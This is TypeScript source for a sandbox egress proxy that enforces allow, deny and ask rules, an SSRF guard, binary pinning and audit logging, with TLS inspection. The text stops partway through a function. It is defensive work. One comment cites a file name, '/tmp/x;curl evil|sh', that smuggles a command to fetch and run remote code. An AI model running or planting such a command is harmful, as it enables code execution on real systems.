// The per-sandbox egress proxy. It serves a unix socket that the helper's relay connects to; each
// connection starts with the relay preamble (who is calling), then speaks HTTP/1.1 proxy protocol:
// CONNECT (byte relay, or TLS termination when the matched endpoint has L7 rules) and
// absolute-form forward requests. Policy decides on the canonical name before any DNS lookup; the
// address that passed the SSRF guard is the one dialled.

import { lookup } from 'node:dns/promises';
import { EventEmitter } from 'node:events';
import { chmodSync, lstatSync, mkdirSync, statSync, unlinkSync } from 'node:fs';
import { Agent as HttpAgent, request as httpRequest } from 'node:http';
import type { IncomingMessage, ClientRequest } from 'node:http';
import { Agent as HttpsAgent, request as httpsRequest } from 'node:https';
import type { RequestOptions as HttpsRequestOptions } from 'node:https';
import { createServer, connect as netConnect } from 'node:net';
import type { Server, Socket } from 'node:net';
import { dirname } from 'node:path';
import { constants as osConstants } from 'node:os';
import { Readable } from 'node:stream';
import type { Duplex } from 'node:stream';
import { TLSSocket, createSecureContext, getCACertificates, rootCertificates } from 'node:tls';
import type { SecureContext } from 'node:tls';
import { canonicalizeHost, decideEgress, globEscape } from '../policy/index.ts';
import type { EgressDecision, EgressRequest, EgressRuleSet } from '../policy/index.ts';
import type { ApprovalQueue } from '../approvals/index.ts';
import type { AppendOptions, AuditEventInput } from '../audit/index.ts';
import { checkAddress } from './address.ts';
import { revalidate } from './revalidate.ts';
import type { HeldConnection } from './revalidate.ts';
import { LeafCache, caEnvironment, loadOrCreateCa, writeTrustBundle } from './ca.ts';
import { ChunkedDecoder, headerTokens, headerValue, parseAbsoluteTarget, parseAuthority, parseOriginTarget, parseRequestHead } from './http1.ts';
import type { RequestHead } from './http1.ts';
import { StreamReader } from './reader.ts';

export const INFERENCE_HOST = 'inference.local';
const PREAMBLE_MAX = 4096;
const PREAMBLE_TIMEOUT_MS = 10_000;
const HEAD_IDLE_TIMEOUT_MS = 120_000;
const CONNECT_TIMEOUT_MS = 30_000;
const CONTROL_LINE_MAX = 128;
const PASS = 'PASS\n';

// ---------------------------------------------------------------------------------------------
// Public types

export interface CallerIdentity {
  sandbox: string;
  pid: number;
  exe: string | null;
  sha256: string | null;
  uid: number | null;
  /** The helper's relay can take byte-relay tunnels over (`"handoff":1`): see native/PROTOCOL.md, "Handoff". */
  handoff: boolean;
}

export type EgressEventType =
  | 'egress_allowed'
  | 'egress_audit'
  | 'egress_denied'
  | 'egress_ask'
  | 'egress_error'
  | 'egress_closed_by_reload'
  | 'egress_tunnel_closed'
  | 'egress_request_done'
  | 'binary_pinned'
  | 'binary_replaced'
  | 'preamble_rejected';

export interface EgressEvent {
  type: EgressEventType;
  ts: string;
  sandbox: string;
  pid: number | null;
  binary: string | null;
  host: string | null;
  port: number | null;
  method: string | null;
  path: string | null;
  verdict: string | null;
  rule: string | null;
  reason: string;
  /** The address dialled (after the SSRF guard). */
  address?: string;
  /** connection: CONNECT tunnel; request: one HTTP request (forward or inspected). */
  scope?: 'connection' | 'request';
  approval?: { id: string; by: { user: string; origin: string }; always: boolean; reason: string };
  /**
   * egress_tunnel_closed: bytes a byte-relay tunnel carried each way, and who moved them;
   * egress_request_done: body bytes of one forwarded or inspected request and of its response.
   */
  bytes?: { up: number; down: number; relay: 'helper' | 'proxy' };
  /** egress_request_done: the upstream's status code. */
  status?: number;
}

/** Audit log sink: the AuditLog returned by src/audit's openAuditLog({home}) fits. */
export interface AuditSink {
  append(event: AuditEventInput, opts?: AppendOptions): Promise<unknown>;
}

/**
 * One shell word. Hints are copied into an operator's shell, and a workload chooses its own
 * executable path (`/tmp/x;curl evil|sh` is a valid file name), so every path is quoted.
 */
export function shellWord(s: string): string {
  return /^[\w./+:@,=-]+$/.test(s) ? s : `'${s.replaceAll("'", `'\\''`)}'`;
}

/** The command that forgets a sandbox's pin of one binary (named in binary_replaced denials). */
function unpinCommand(sandbox: string, exe: string): string {
  return `nemoclaw ${shellWord(sandbox)} unpin ${shellWord(exe)}`;
}

/** Maps a proxy event to an audit record (never query strings, headers or bodies). */
export function egressAuditRecord(ev: EgressEvent): { event: AuditEventInput; durable: boolean } | null {
  const denied = ev.type === 'egress_denied' || ev.type === 'binary_replaced' || ev.type === 'preamble_rejected' || ev.type === 'egress_closed_by_reload';
  const kind: AuditEventInput['kind'] = ev.approval ? 'approval.decision' : denied ? 'egress.denied' : 'egress.allowed';
  if (ev.type === 'egress_ask' || ev.type === 'egress_error') return null;
  const event: AuditEventInput = { kind, activity: ev.type.replace(/^egress_/, ''), sandbox: ev.sandbox };
  if (ev.binary !== null) event.binary = ev.binary;
  if (ev.host !== null) event.target = `${ev.host}:${ev.port ?? ''}`;
  const decision = ev.approval
    ? `${ev.verdict === 'allow' ? 'allow' : 'deny'}_${ev.approval.reason === 'operator' ? (ev.approval.always ? 'always' : 'once') : ev.approval.reason}`
    : (ev.verdict ?? undefined);
  if (decision) event.decision = decision;
  if (ev.rule) event.rule = ev.rule;
  if (ev.approval) event.actor = { user: ev.approval.by.user };
  event.severity = denied ? 'medium' : 'info';
  const detail: Record<string, string | number | boolean | null> = { reason: ev.reason };
  if (ev.method) detail.method = ev.method;
  if (ev.path) detail.path = ev.path;
  if (ev.address) detail.address = ev.address;
  if (ev.pid !== null) detail.pid = ev.pid;
  if (ev.scope) detail.scope = ev.scope;
  if (ev.approval) detail.origin = ev.approval.by.origin;
  if (ev.bytes) {
    detail.bytes_up = ev.bytes.up;
    detail.bytes_down = ev.bytes.down;
  }
  if (ev.status !== undefined) detail.status = ev.status;
  event.detail = detail;
  return { event, durable: denied || ev.approval !== undefined };
}

export interface InferenceRequest {
  sandbox: string;
  binary: string | null;
  method: string;
  /** origin-form target: path and query */
  url: string;
  headers: Array<[string, string]>;
  body: Readable;
}

export interface InferenceResponse {
  writeHead(status: number, headers?: Record<string, string>): void;
  write(chunk: Buffer | string): Promise<void>;
  end(chunk?: Buffer | string): Promise<void>;
}

/** The `inference.local` router (src/inference); until one is configured the proxy answers 503. */
export interface InferenceRouter {
  handle(req: InferenceRequest, res: InferenceResponse): Promise<void> | void;
}

export interface EgressProxyOptions {
  /** Unix socket path; its directory is created 0700 (or must already be ours and is tightened to 0700). */
  socketPath: string;
  sandboxId: string;
  /** The current rule set, or a getter read at start and on every `reload()` without an argument. */
  rules: EgressRuleSet | (() => EgressRuleSet);
  approvals?: ApprovalQueue;
  /** Where the inspection CA lives (ca.pem, ca-key.pem, bundle.pem; dir 0711); default: `<socket dir>.ca` beside the socket's directory. */
  caDir?: string;
  /** Extra CA certificates (PEM) trusted for upstream TLS, in addition to the system and bundled roots. */
  upstreamCa?: string[];
  /** Extra CA certificates (PEM) added to the sandbox's trust bundle (e.g. a private origin's CA for byte-relayed TLS). */
  sandboxExtraCa?: string[];
  resolver?: (host: string) => Promise<string[]>;
  /** Binaries already pinned for this sandbox (exe path -> sha256), e.g. persisted by the supervisor across proxy restarts. */
  pins?: ReadonlyMap<string, string> | Record<string, string>;
  /** Called once per new first-use pin (exe path, sha256), after it took effect: the supervisor persists it. */
  onPin?: (exe: string, sha256: string) => void;
  onEvent?: (e: EgressEvent) => void;
  audit?: AuditSink;
  inference?: InferenceRouter;
}

export interface EgressProxy {
  readonly socketPath: string;
  readonly sandboxId: string;
  /** PEM file of the inspection CA alone. */
  readonly caCertPath: string;
  /** Trust bundle for the sandbox (inspection CA + system roots + sandboxExtraCa): bind it read-only. */
  readonly caBundlePath: string;
  /** caEnvironment(caBundlePath) */
  readonly caEnv: Record<string, string>;
  /** Applies a new rule set atomically (or re-reads the getter) and closes connections it no longer allows. Returns how many were closed. */
  reload(next?: EgressRuleSet): number;
  /** Pinned binaries: exe path -> sha256. */
  pins(): Map<string, string>;
  /** Forgets the pin of one exe path (every pin without one): the next use pins again. Returns the paths dropped. */
  unpin(exe?: string): string[];
  /** Open client connections. */
  connections(): number;
  setInferenceRouter(router: InferenceRouter | undefined): void;
  close(): Promise<void>;
  readonly events: EventEmitter<{ event: [EgressEvent] }>;
}

// ---------------------------------------------------------------------------------------------

interface Target {
  host: string;
  port: number;
  kind: 'dns' | 'ipv4' | 'ipv6';
}

interface Tracked {
  identity: CallerIdentity;
  binary: string | null;
  /** What this connection currently holds open. */
  host: string | null;
  port: number | null;
  address: string | null;
  /** Allowed by an operator's once-approval: rule reloads do not revoke it. */
  approvedOnce: boolean;
  /** Bytes pass uninspected (relayed here or handed to the helper). */
  relay: boolean;
  /** The request in flight on a plain or inspected connection, for reloads to judge. */
  request: HeldConnection['request'];
  /** `pending`: the helper holds the client's bytes until this connection's control line (PASS or DIAL). */
  control: 'none' | 'pending' | 'sent';
  destroy(): void;
}

type Req = { method?: string; path?: string; query?: string };

interface Authorized {
  d: EgressDecision;
  approvedOnce: boolean;
  /** The rule set the decision was made on: a reload while waiting is caught by comparing. */
  decidedOn: EgressRuleSet;
}

class Refusal extends Error {
  status: number;
  body: Record<string, unknown>;
  constructor(status: number, body: Record<string, unknown>) {
    super(String(body.reason ?? body.error));
    this.status = status;
    this.body = body;
  }
}

/** The helper's relay holds a connection's bytes until its control line: PASS means we serve it. */
function pass(t: { control: 'none' | 'pending' | 'sent' }, stream: Duplex): void {
  if (t.control !== 'pending') return;
  t.control = 'sent';
  stream.write(PASS);
}

const ERRNO_NAMES = new Map(Object.entries(osConstants.errno).map(([name, n]) => [n, name]));
const errnoName = (n: number): string => ERRNO_NAMES.get(n) ?? `errno ${n}`;

function jsonResponse(status: number, body: Record<string, unknown>, keepAlive = false): Buffer {
  const text = `${JSON.stringify(body)}\n`;
  const reason = STATUS_TEXT[status] ?? 'Error';
  return Buffer.from(
    `HTTP/1.1 ${status} ${reason}\r\nContent-Type: application/json\r\nContent-Length: ${Buffer.byteLength(text)}\r\n` +
      `Cache-Control: no-store\r\nConnection: ${keepAlive ? 'keep-alive' : 'close'}\r\n\r\n${text}`,
    'latin1',
  );
}

const STATUS_TEXT: Record<number, string> = {
  400: 'Bad Request',
  403: 'Forbidden',
  405: 'Method Not Allowed',
  408: 'Request Timeout',
  421: 'Misdirected Request',
  431: 'Request Header Fields Too Large',
  500: 'Internal Server Error',
  501: 'Not Implemented',
  502: 'Bad Gateway',
  503: 'Service Unavailable',
  504: 'Gateway Timeout',
  505: 'HTTP Version Not Supported',
};

const HOP_BY_HOP = new Set([
  'connection',
  'proxy-connection',
  'keep-alive',
  'proxy-authorization',
  'proxy-authenticate',
  'te',
  'trailer',
  'transfer-encoding',
  'upgrade',
  'expect',
]);

function parsePreamble(line: string): CallerIdentity | null {
  if (!line.startsWith('NEMOCLAW/1 ')) return null;
  let v: unknown;
  try {
    v = JSON.parse(line.slice('NEMOCLAW/1 '.length));
  } catch {
    return null;
  }
  if (typeof v !== 'object' || v === null) return null;
  const o = v as Record<string, unknown>;
  if (typeof o.sandbox !== 'string') return null;
  const pid = typeof o.pid === 'number' && Number.isInteger(o.pid) && o.pid >= 0 ? o.pid : null;
  if (pid === null) return null;
  const exe = typeof o.exe === 'string' && o.exe.startsWith('/') && !o.exe.includes('\0') ? o.exe : null;
  const sha256 = typeof o.sha256 === 'string' && /^[0-9a-f]{64}$/.test(o.sha256) ? o.sha256 : null;
  const uid = typeof o.uid === 'number' && Number.isInteger(o.uid) ? o.uid : null;
  return { sandbox: o.sandbox, pid, exe, sha256, uid, handoff: o.handoff === 1 };
}

function defaultResolver(host: string): Promise<string[]> {
  return lookup(host, { all: true, verbatim: true }).then((r) => r.map((a) => a.address));
}

function prepareSocketDir(socketPath: string): void {
  const dir = dirname(socketPath);
  mkdirSync(dir, { recursive: true, mode: 0o700 });
  const st = statSync(dir);
  if (typeof process.getuid === 'function' && st.uid !== process.getuid()) {
    throw new Error(`proxy socket directory ${dir} is owned by uid ${st.uid}, not by us`);
  }
  chmodSync(dir, 0o700);
  try {
    const l = lstatSync(socketPath);
    if (!l.isSocket()) throw new Error(`${socketPath} exists and is not a socket`);
    unlinkSync(socketPath);
  } catch (err) {
    if ((err as NodeJS.ErrnoException).code !== 'ENOENT') throw err;
  }
}

export async function startEgressProxy(opts: EgressProxyOptions): Promise<EgressProxy> {
  prepareSocketDir(opts.socketPath);
  const getter = typeof opts.rules === 'function' ? opts.rules : null;
  let rules: EgressRuleSet = typeof opts.rules === 'function' ? opts.rules() : opts.rules;
  const resolver = opts.resolver ?? defaultResolver;
  // Not inside the socket's 0700 directory: the helper must be able to reach the bundle to bind it.
  const caDir = opts.caDir ?? `${dirname(opts.socketPath)}.ca`;
  const { ca, certPath } = loadOrCreateCa(caDir, opts.sandboxId);
  const bundlePath = writeTrustBundle(caDir, ca.certPem, opts.sandboxExtraCa);
  const leaves = new LeafCache(ca);
  // One secure context for every upstream TLS connection (bundled + system roots + test CAs), built
  // on first use: parsing ~150 roots per connection would cost milliseconds and megabytes.
  let upstreamContext: SecureContext | null = null;
  const upstreamTls = (): SecureContext =>
    (upstreamContext ??= createSecureContext({ ca: [...new Set([...rootCertificates, ...safeSystemCas(), ...(opts.upstreamCa ?? [])])], minVersion: 'TLSv1.2' }));
  const pins = new Map<string, string>(opts.pins instanceof Map ? opts.pins : Object.entries(opts.pins ?? {}));
  const tracked = new Set<Tracked>();
  const sockets = new Set<Socket>();
  const events = new EventEmitter<{ event: [EgressEvent] }>();
  let inference = opts.inference;
  const sandbox = opts.sandboxId;

  const emit = (e: Omit<EgressEvent, 'ts' | 'sandbox'>): void => {
    const ev: EgressEvent = { ts: new Date().toISOString(), sandbox, ...e };
    opts.onEvent?.(ev);
    events.emit('event', ev);
    if (opts.audit) {
      const rec = egressAuditRecord(ev);
      if (rec) {
        try {
          opts.audit.append(rec.event, { durable: rec.durable }).catch(() => {});
        } catch {
          // the audit component reports its own failures
        }
      }
    }
  };

  const baseEvent = (t: Tracked, target: Target | null, req?: { method?: string; path?: string }) => ({
    pid: t.identity.pid || null,
    binary: t.binary,
    host: target?.host ?? null,
    port: target?.port ?? null,
    method: req?.method ?? null,
    path: req?.path ?? null,
  });

  function denial(t: Tracked, target: Target, d: Pick<EgressDecision, 'rule' | 'reason'> & { verdict: string }, req?: { method?: string; path?: string; query?: string }, error = 'policy_denied', hintOverride?: string): Refusal {
    const hostPort = `${target.host}:${target.port}`;
    const l7 = req?.method !== undefined && d.rule !== null;
    const missing = l7 && req
      ? `a rule allowing ${req.method} ${req.path ?? '/'} on ${hostPort}${t.binary ? ` for ${t.binary}` : ''}`
      : `an endpoint ${hostPort}${t.binary ? ` for binary ${t.binary}` : ' (caller unknown)'}`;
    const access = !l7 || req?.method === undefined ? null : ['GET', 'HEAD', 'OPTIONS'].includes(req.method) ? 'read-only' : ['POST', 'PUT', 'PATCH'].includes(req.method) ? 'read-write' : 'full';
    const hint = hintOverride ?? `nemoclaw policy add --sandbox ${shellWord(sandbox)} --name allow_${target.host.replace(/[^A-Za-z0-9_]/g, '_')}_${target.port} --host ${target.host} --port ${target.port}${t.binary ? ` --binary ${shellWord(globEscape(t.binary))}` : ''}${access ? ` --access ${access}` : ''}`;
    return new Refusal(403, {
      error,
      host: target.host,
      port: target.port,
      binary: t.binary,
      method: req?.method ?? null,
      path: req?.path ?? null,
      rule_missing: missing,
      rule: d.rule,
      reason: d.reason,
      hint,
    });
  }

  /** A caller whose binary differs from its pin gets nothing: no decision, no router. */
  function refuseReplacedBinary(t: Tracked, target: Target, req: Req): void {
    if (!(t.identity.exe && t.binary === null && t.identity.sha256 && pins.get(t.identity.exe) !== t.identity.sha256)) return;
    const r = { verdict: 'deny', rule: null, reason: `binary ${t.identity.exe} changed since it was first seen (sha256 pinned on first use); if it was upgraded on purpose, trust the new one with: ${unpinCommand(sandbox, t.identity.exe)}` };
    emit({ type: 'egress_denied', ...baseEvent(t, target, req), verdict: 'deny', rule: null, reason: r.reason, scope: req.method ? 'request' : 'connection' });
    throw denial(t, target, r, req, 'binary_replaced', unpinCommand(sandbox, t.identity.exe));
  }

  /** Runs the decision (and the approval queue for `ask`); throws Refusal on deny. */
  async function authorize(t: Tracked, target: Target, req: Req): Promise<Authorized> {
    const decidedOn = rules;
    refuseReplacedBinary(t, target, req);
    const er: EgressRequest = { host: target.host, port: target.port, binary: t.binary };
    if (req.method !== undefined) {
      er.method = req.method;
      er.path = req.path ?? '/';
      er.query = req.query ?? '';
    }
    const d = decideEgress(rules, er);
    const scope = req.method ? 'request' : 'connection';
    if (d.verdict === 'allow' || d.verdict === 'audit') {
      emit({ type: d.verdict === 'allow' ? 'egress_allowed' : 'egress_audit', ...baseEvent(t, target, req), verdict: d.verdict, rule: d.rule, reason: d.reason, scope });
      return { d, approvedOnce: false, decidedOn };
    }
    if (d.verdict === 'ask' && opts.approvals) {
      emit({ type: 'egress_ask', ...baseEvent(t, target, req), verdict: 'ask', rule: d.rule, reason: d.reason, scope });
      const ask: Parameters<ApprovalQueue['request']>[0] = { sandbox, kind: 'egress', binary: t.binary, host: target.host, port: target.port, timeoutMs: rules.approvalTimeoutMs };
      if (req.method !== undefined) {
        ask.method = req.method;
        ask.path = req.path ?? '/';
      }
      const r = await opts.approvals.request(ask);
      const approval = { id: r.id, by: r.by, always: r.always, reason: r.reason };
      if (r.verdict === 'allow') {
        emit({ type: 'egress_allowed', ...baseEvent(t, target, req), verdict: 'allow', rule: null, reason: `approved by ${r.by.user} (${r.by.origin})`, scope, approval });
        // An approval never widens the SSRF guard: only allowed_ips of endpoints that already
        // match this host, port and binary (an L7 ask) apply.
        const conn = decideEgress(rules, { host: target.host, port: target.port, binary: t.binary });
        const allowedIps = conn.verdict === 'allow' ? conn.allowedIps : [];
        return { d: { verdict: 'allow', inspect: false, rule: null, reason: 'approved by operator', allowedIps }, approvedOnce: true, decidedOn };
      }
      const reason =
        r.reason === 'timeout'
          ? 'no operator decision before the approval timeout'
          : r.reason === 'closed'
            ? 'the approval queue was closed'
            : r.reason === 'overflow'
              ? 'too many pending approvals for this sandbox'
              : `denied by ${r.by.user} (${r.by.origin})`;
      emit({ type: 'egress_denied', ...baseEvent(t, target, req), verdict: 'deny', rule: d.rule, reason, scope, approval });
      throw denial(t, target, { verdict: 'deny', rule: d.rule, reason }, req);
    }
    const reason = d.verdict === 'ask' ? `${d.reason} (no approval queue attached: denied)` : d.reason;
    emit({ type: 'egress_denied', ...baseEvent(t, target, req), verdict: 'deny', rule: d.rule, reason, scope });
    throw denial(t, target, { verdict: 'deny', rule: d.rule, reason }, req);
  }

  /**
   * A reload that landed while this connection waited (on the operator or on DNS) is not missed:
   * the connection is decided again on the new rules, without a new ask, before anything is dialled.
   */
  function decisionAfterWait(t: Tracked, target: Target, req: Req, auth: Authorized, address: string): EgressDecision {
    if (auth.approvedOnce || auth.decidedOn === rules) return auth.d;
    const request = req.method === undefined ? null : { method: req.method, path: req.path ?? '/', query: req.query ?? '' };
    const r = revalidate(rules, { host: target.host, port: target.port, binary: t.binary, address, relay: false, request });
    if (r.keep) return r.decision;
    const reason = `the policy changed while this connection waited: ${r.reason}`;
    emit({ type: 'egress_denied', ...baseEvent(t, target, req), verdict: 'deny', rule: r.decision.rule, reason, scope: req.method ? 'request' : 'connection' });
    throw denial(t, target, { verdict: 'deny', rule: r.decision.rule, reason }, req);
  }

  /** Resolves (after the decision) and applies the SSRF guard; returns the address to dial. */
  async function resolveChecked(t: Tracked, target: Target, allowedIps: readonly string[], req?: { method?: string; path?: string }): Promise<{ address: string; family: 4 | 6 }> {
    let candidates: string[];
    if (target.kind === 'dns') {
      try {
        candidates = await resolver(target.host);
      } catch (err) {
        const reason = `DNS lookup of ${target.host} failed: ${(err as NodeJS.ErrnoException).code ?? String(err)}`;
        emit({ type: 'egress_error', ...baseEvent(t, target, req), verdict: null, rule: null, reason });
        throw new Refusal(502, { error: 'dns_failed', host: target.host, port: target.port, reason });
      }
    } else candidates = [target.host];
    const refused: string[] = [];
    for (const c of candidates) {
      const check = checkAddress(c, allowedIps);
      if (check.ok) return { address: check.address, family: check.family };
      refused.push(`${check.address} (${check.cls})`);
    }
    const reason = candidates.length === 0 ? `${target.host} resolved to no address` : `${target.host} resolves only to refused addresses: ${refused.join(', ')}; list them in the endpoint's allowed_ips to permit`;
    emit({ type: 'egress_denied', ...baseEvent(t, target, req), verdict: 'deny', rule: null, reason, scope: req?.method ? 'request' : 'connection' });
    throw new Refusal(403, {
      error: 'policy_denied',
      host: target.host,
      port: target.port,
      binary: t.binary,
      method: req?.method ?? null,
      path: req?.path ?? null,
      rule_missing: `allowed_ips covering ${refused.join(', ') || 'an address'} on the endpoint for ${target.host}:${target.port}`,
      reason,
      hint: `add allowed_ips: [<address>] to the endpoint ${target.host}:${target.port} (only if this internal address is intended)`,
    });
  }

  function canonical(text: string): Target | { error: string } {
    const c = canonicalizeHost(text);
    if (!c.ok) return { error: c.reason };
    return { host: c.host, port: 0, kind: c.kind };
  }

  // -------------------------------------------------------------------------------------------
  // Per connection

  async function handleClient(sock: Socket): Promise<void> {
    const reader = new StreamReader(sock);
    sock.on('error', () => {});
    // 1. the relay preamble
    const timer = setTimeout(() => sock.destroy(), PREAMBLE_TIMEOUT_MS);
    const line = await reader.readLine(PREAMBLE_MAX);
    clearTimeout(timer);
    const identity = line === null ? null : parsePreamble(line);
    if (!identity || identity.sandbox !== sandbox) {
      const reason = !identity ? 'missing or malformed relay preamble' : `preamble names sandbox ${JSON.stringify(identity.sandbox)}, this proxy serves ${JSON.stringify(sandbox)}`;
      emit({ type: 'preamble_rejected', pid: identity?.pid ?? null, binary: identity?.exe ?? null, host: null, port: null, method: null, path: null, verdict: 'deny', rule: null, reason });
      if (identity?.handoff) sock.write(PASS);
      sock.end(jsonResponse(403, { error: 'proxy_refused', reason }));
      return;
    }
    // 2. binary pinning (trust on first use per sandbox)
    let binary: string | null = null;
    if (identity.exe && identity.sha256) {
      const pinned = pins.get(identity.exe);
      if (pinned === undefined) {
        pins.set(identity.exe, identity.sha256);
        opts.onPin?.(identity.exe, identity.sha256);
        emit({ type: 'binary_pinned', pid: identity.pid, binary: identity.exe, host: null, port: null, method: null, path: null, verdict: null, rule: null, reason: `sha256 ${identity.sha256}` });
        binary = identity.exe;
      } else if (pinned === identity.sha256) binary = identity.exe;
      else {
        emit({ type: 'binary_replaced', pid: identity.pid, binary: identity.exe, host: null, port: null, method: null, path: null, verdict: 'deny', rule: null, reason: `sha256 ${identity.sha256} differs from the pinned ${pinned}; if it was upgraded on purpose: ${unpinCommand(sandbox, identity.exe)}` });
      }
    }
    const t: Tracked = {
      identity,
      binary,
      host: null,
      port: null,
      address: null,
      approvedOnce: false,
      relay: false,
      request: null,
      control: identity.handoff ? 'pending' : 'none',
      destroy: () => sock.destroy(),
    };
    tracked.add(t);
    sock.once('close', () => tracked.delete(t));
    try {
      await serveHttp(t, sock, reader, null);
    } catch (err) {
      if (!sock.destroyed) sock.destroy(err instanceof Error ? err : undefined);
    }
  }

  interface Tunnel {
    target: Target;
    scheme: 'http' | 'https';
    authority: string;
  }

  /** Reads and serves requests until the connection closes or is handed to a relay. */
  async function serveHttp(t: Tracked, stream: Duplex, reader: StreamReader, tunnel: Tunnel | null): Promise<void> {
    const agents: { http?: HttpAgent; https?: HttpsAgent } = {};
    try {
      for (;;) {
        // read one head
        let parsed = parseRequestHead(reader.peek());
        let idle: NodeJS.Timeout | null = null;
        while (parsed.kind === 'incomplete') {
          idle ??= setTimeout(() => stream.destroy(), HEAD_IDLE_TIMEOUT_MS);
          if (!(await reader.more())) {
            if (idle) clearTimeout(idle);
            stream.end();
            return;
          }
          parsed = parseRequestHead(reader.peek());
        }
        if (idle) clearTimeout(idle);
        if (parsed.kind === 'error' || parsed.head.method !== 'CONNECT') pass(t, stream);
        if (parsed.kind === 'error') {
          stream.end(jsonResponse(parsed.status, { error: 'bad_request', reason: parsed.reason }));
          return;
        }
        reader.consume(parsed.consumed);
        const head = parsed.head;
        if (!tunnel && head.method === 'CONNECT') {
          await handleConnect(t, stream as Socket, reader, head);
          return;
        }
        let keep: boolean | 'upgraded';
        try {
          keep = await handleRequest(t, stream, reader, head, tunnel, agents);
          if (keep !== 'upgraded') t.request = null;
        } catch (err) {
          if (err instanceof Refusal) {
            // The body (if any) has not been read: close after the answer.
            if (!stream.destroyed) stream.end(jsonResponse(err.status, err.body));
            return;
          }
          throw err;
        }
        if (keep === 'upgraded') return; // the connection is now a WebSocket relay
        if (!keep) {
          stream.end();
          return;
        }
      }
    } finally {
      agents.http?.destroy();
      agents.https?.destroy();
    }
  }

  async function handleConnect(t: Tracked, sock: Socket, reader: StreamReader, head: RequestHead): Promise<void> {
    try {
      const a = parseAuthority(head.target);
      if ('error' in a) throw new Refusal(400, { error: 'bad_request', reason: `CONNECT target: ${a.error}` });
      const c = canonical(a.host);
      if ('error' in c) throw new Refusal(400, { error: 'bad_request', reason: `CONNECT host: ${c.error}` });
      const target: Target = { ...c, port: a.port };
      const hostHeader = headerValue(head.headers, 'host');
      if (hostHeader !== undefined && !sameAuthority(hostHeader, target, a.port)) {
        throw new Refusal(400, { error: 'host_mismatch', reason: `Host header ${JSON.stringify(hostHeader)} does not name the CONNECT target ${target.host}:${target.port}` });
      }
      if (target.host === INFERENCE_HOST) {
        throw new Refusal(400, { error: 'bad_request', reason: `use plain http://${INFERENCE_HOST}/ (the proxy routes it; CONNECT is not offered)` });
      }
      const auth = await authorize(t, target, {});
      const { address } = await resolveChecked(t, target, auth.d.allowedIps);
      const d = decisionAfterWait(t, target, {}, auth, address);
      const approvedOnce = auth.approvedOnce;
      t.host = target.host;
      t.port = target.port;
      t.address = address;
      t.approvedOnce = approvedOnce;
      t.relay = !(d.inspect && !approvedOnce);
      if (!t.relay) {
        pass(t, sock);
        sock.write('HTTP/1.1 200 Connection Established\r\n\r\n');
        await serveInspected(t, sock, reader, target, a.port);
        return;
      }
      // byte relay: by the helper when it offered (its bytes never reach us), else here
      if (t.control === 'pending' && reader.buffered === 0) {
        await handOff(t, sock, reader, target, address);
        return;
      }
      pass(t, sock);
      await relayHere(t, sock, reader, target, address);
    } catch (err) {
      if (err instanceof Refusal) {
        pass(t, sock);
        if (!sock.destroyed) sock.end(jsonResponse(err.status, err.body));
        return;
      }
      throw err;
    }
  }

  function connectFailed(t: Tracked, target: Target, address: string, code: string): Refusal {
    const reason = `connect to ${address}:${target.port} failed: ${code}`;
    emit({ type: 'egress_error', ...baseEvent(t, target), verdict: null, rule: null, reason, address });
    return new Refusal(502, { error: 'upstream_connect_failed', host: target.host, port: target.port, reason });
  }

  /** Byte relay through this process (clients that did not offer the handoff). */
  async function relayHere(t: Tracked, sock: Socket, reader: StreamReader, target: Target, address: string): Promise<void> {
    const { upstream, attach } = dialRelay(address, target.port);
    await new Promise<void>((resolve, reject) => {
      const timer = setTimeout(() => {
        upstream.destroy();
        reject(Object.assign(new Error('connect timed out'), { code: 'ETIMEDOUT' }));
      }, CONNECT_TIMEOUT_MS);
      upstream.once('connect', () => {
        clearTimeout(timer);
        resolve();
      });
      upstream.once('error', (err) => {
        clearTimeout(timer);
        reject(err);
      });
    }).catch((err: NodeJS.ErrnoException) => {
      throw connectFailed(t, target, address, err.code ?? err.message);
    });
    if (sock.destroyed) {
      // the client went away while we decided, asked or dialled
      upstream.destroy();
      return;
    }
    const rest = reader.detach();
    sock.setNoDelay(true);
    sock.write('HTTP/1.1 200 Connection Established\r\n\r\n');
    upstream.once('close', () => {
      const bytes = { up: upstream.bytesWritten, down: upstream.bytesRead, relay: 'proxy' as const };
      emit({ type: 'egress_tunnel_closed', ...baseEvent(t, target), verdict: null, rule: null, reason: `tunnel closed: ${bytes.up} bytes up, ${bytes.down} bytes down (relayed by the proxy)`, address, bytes });
    });
    if (rest.length) upstream.write(rest);
    relay(sock, upstream);
    attach(sock);
    sock.resume();
  }

  /**
   * The helper dials the address we checked and moves the tunnel's bytes itself. This connection
   * stays open as the tunnel's lifeline: destroying it (reload, close) ends the tunnel.
   */
  async function handOff(t: Tracked, sock: Socket, reader: StreamReader, target: Target, address: string): Promise<void> {
    t.control = 'sent';
    sock.write(`DIAL ${address} ${target.port}\n`);
    const answer = await reader.readLine(CONTROL_LINE_MAX, CONNECT_TIMEOUT_MS);
    if (answer === 'UP') {
      const done = await reader.readLine(CONTROL_LINE_MAX);
      const m = done === null ? null : /^DONE (\d+) (\d+)$/.exec(done);
      if (m) {
        const bytes = { up: Number(m[1]), down: Number(m[2]), relay: 'helper' as const };
        emit({ type: 'egress_tunnel_closed', ...baseEvent(t, target), verdict: null, rule: null, reason: `tunnel closed: ${bytes.up} bytes up, ${bytes.down} bytes down (relayed by the sandbox helper)`, address, bytes });
      }
      sock.destroy();
      return;
    }
    const failed = answer === null ? null : /^FAIL (\d+)$/.exec(answer);
    if (failed) throw connectFailed(t, target, address, errnoName(Number(failed[1])));
    if (answer === null && !sock.destroyed && !reader.isEnded) {
      sock.write('ABORT\n');
      throw connectFailed(t, target, address, 'ETIMEDOUT');
    }
    sock.destroy(); // the helper went away, or broke the protocol
  }

  /** An inspected CONNECT: TLS (detected by its first byte) is terminated with a leaf for the target. */
  async function serveInspected(t: Tracked, sock: Socket, reader: StreamReader, target: Target, port: number): Promise<void> {
    while (reader.buffered === 0) if (!(await reader.more())) return;
    const first = reader.peek()[0];
    const authority = target.kind === 'ipv6' ? `[${target.host}]:${port}` : `${target.host}:${port}`;
    if (first !== 0x16) {
      await serveHttp(t, sock, reader, { target, scheme: 'http', authority });
      return;
    }
    const rest = reader.detach();
    sock.unshift(rest);
    const ctx = leaves.context(target.host);
    let sniError: string | null = null;
    const tlsSock = new TLSSocket(sock, {
      isServer: true,
      secureContext: ctx,
      ALPNProtocols: ['http/1.1'],
      SNICallback: (servername: string, cb: (err: Error | null, ctx?: SecureContext) => void) => {
        const s = canonicalizeHost(servername);
        if (!s.ok || s.host !== target.host) {
          sniError = `TLS SNI ${JSON.stringify(servername)} does not match the CONNECT target ${target.host}`;
          cb(new Error(sniError));
